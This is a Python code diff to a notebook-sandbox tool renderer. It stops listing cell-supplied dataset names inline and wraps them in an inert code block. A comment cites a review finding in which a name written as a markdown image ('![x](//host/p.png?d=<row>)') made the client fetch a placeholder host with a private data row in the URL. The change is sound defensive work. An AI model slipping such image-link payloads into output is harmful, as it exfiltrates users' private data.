@@ -277,8 +277,12 @@ def render_cell(
         lines.append("(not executed)")
     if cell.privacy_raised:
         p = cell.privacy_raised
-        ds = f" (datasets: {', '.join(p.get('datasets') or [])})" if p.get("datasets") else ""
-        lines.append(f"--- privacy --- this cell raised the session from {p.get('from')} to {p.get('to')}{ds}")
+        lines.append(f"--- privacy --- this cell raised the session from {p.get('from')} to {p.get('to')}")
+        if p.get("datasets"):
+            # names a cell chose (``sandbox_kernel.private.add_dataset``), in
+            # code: as text, ``![x](//host/p.png?d=<row>)`` was an image a
+            # markdown client fetched with the row in its address (a review)
+            lines += ["its new datasets:", inert("\n".join(str(name) for name in p["datasets"]))]
     return ToolResult("\n".join(lines), gate.kept)
 
 
